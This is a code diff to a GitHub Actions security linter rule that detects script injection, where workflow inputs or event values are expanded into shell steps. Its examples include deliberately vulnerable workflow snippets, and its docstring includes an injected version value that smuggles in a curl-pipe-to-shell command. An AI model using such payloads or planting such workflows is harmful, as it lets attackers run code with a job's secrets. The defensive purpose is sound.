@@ -2,9 +2,21 @@ from collections.abc import Iterator
 
 from aurora_devops import Finding, bad, good, policy
 from aurora_devops.kinds.github import Expression
-from aurora_devops.kinds.github.untrusted import flowing, is_code, is_input, is_written_outside, sources
 
-from ._edits import in_environment
+from ._inputs import inputs_in_script
+
+_CALLED = """\
+name: Release
+on:
+  workflow_call:
+    inputs:
+      version:
+        type: string
+jobs:
+  release:
+    runs-on: ubuntu-24.04
+    steps:
+"""
 
 
 @policy(
@@ -14,32 +26,10 @@ from ._edits import in_environment
     equivalents={"zizmor": "template-injection"},
     examples=[
         bad(
-            """\
-            on:
-              workflow_dispatch:
-                inputs:
-                  version:
-                    type: string
-            jobs:
-              release:
-                runs-on: ubuntu-24.04
-                steps:
-                  - run: make release VERSION="${{ «inputs.version» }}"
-            """,
-            fixed="""\
-            on:
-              workflow_dispatch:
-                inputs:
-                  version:
-                    type: string
-            jobs:
-              release:
-                runs-on: ubuntu-24.04
-                steps:
-                  - run: make release VERSION="${INPUTS_VERSION}"
-                    env:
-                      INPUTS_VERSION: ${{ inputs.version }}
-            """,
+            _CALLED + '      - run: make release VERSION="${{ «inputs.version» }}"\n',
+            fixed=_CALLED
+            + '      - run: make release VERSION="${INPUTS_VERSION}"\n'
+            + "        env:\n          INPUTS_VERSION: ${{ inputs.version }}\n",
         ),
         bad(
             """\
@@ -71,41 +61,42 @@ from ._edits import in_environment
             kind="github-action",
         ),
         bad(
+            _CALLED
+            + "      - run: |\n"
+            + '          make release VERSION="${{ «inputs.version» }}"\n'
+            + '          make publish VERSION="${{ inputs.version }}"\n',
+            because="one finding for each script",
+        ),
+        bad(
             """\
             on:
-              workflow_dispatch:
-                inputs:
-                  version:
-                    type: string
+              issues:
+                types: [labeled]
             jobs:
-              release:
+              triage:
                 runs-on: ubuntu-24.04
                 steps:
-                  - run: |
-                      make release VERSION="${{ «inputs.version» }}"
-                      make publish VERSION="${{ inputs.version }}"
+                  - run: ./triage.sh ${{ «github.event.label.name» }}
             """,
-            because="one finding for each script",
         ),
         good(
             """\
             on:
-              workflow_dispatch:
+              workflow_call:
                 inputs:
                   version:
                     type: string
-                  level:
-                    type: choice
-                    options: [minor, major]
+                  count:
+                    type: number
             jobs:
               release:
                 runs-on: ubuntu-24.04
                 steps:
-                  - run: make release VERSION="$VERSION" LEVEL=${{ inputs.level }}
+                  - run: make release VERSION="$VERSION" COUNT=${{ inputs.count }}
                     env:
                       VERSION: ${{ inputs.version }}
             """,
-            because="a choice has a closed set of values, and the shell quotes the variable",
+            because="a number cannot be a command, and the shell quotes the variable",
         ),
         good(
             """\
@@ -119,16 +110,20 @@ from ._edits import in_environment
             """,
             because="GitHub makes the addresses of the number of the pull request and the name of the repository",
         ),
-        bad(
+        good(
             """\
-            on: release
+            on:
+              workflow_dispatch:
+                inputs:
+                  version:
+                    type: string
             jobs:
-              announce:
+              release:
                 runs-on: ubuntu-24.04
                 steps:
-                  - run: ./announce.sh ${{ «github.event.release.html_url» }}
+                  - run: make release VERSION="${{ inputs.version }}"
             """,
-            because="the address has the name of the tag",
+            because="people who may write to the repository start the workflow: `own-input-in-script` reports it",
         ),
     ],
 )
@@ -138,22 +133,12 @@ def input_in_script(expression: Expression) -> Iterator[Finding]:
     The caller decides the value: `1"; curl https://example.com/x | sh; "` as a version runs commands with the
     token and the secrets of the job, and a quote in a harmless value breaks the script.
     Pass the value in an environment variable and quote that.
-    Reported once for each expression in a script. Inputs of the types `boolean`, `number`, `choice` and `environment`
-    are not reported, nor are inputs that each caller in the repository sets to a constant.
+    Reported once for each expression in a script: the inputs of actions and reusable workflows that no file of the
+    repository calls, and values of events. `own-input-in-script` reports values that only people with write access set.
+    Inputs of the types `boolean`, `number`, `choice` and `environment` are not reported.
     The fix passes a value that the shell expands as an argument in a variable of the step; its name may not be the
     best one, so the fix is not applied by default.
 
     https://docs.github.com/en/actions/concepts/security/script-injections
     """
-    if expression.repeated or not is_code(expression) or expression.tree is None:
-        return
-    for way, tree in flowing(expression.tree):
-        ends = list(sources(expression, way))
-        if any(is_written_outside(end, expression) for end in ends):
-            continue
-        if not any(is_input(expression, end) for end in ends):
-            continue
-        said = expression.text[tree.start : tree.end]
-        message = f"'{said}' is expanded into the script; pass it in an environment variable"
-        fix = in_environment(expression) if tree == expression.tree else None
-        yield Finding(at=expression.part(tree.start, tree.end), message=message, fix=fix)
+    return inputs_in_script(expression, by_members=False)
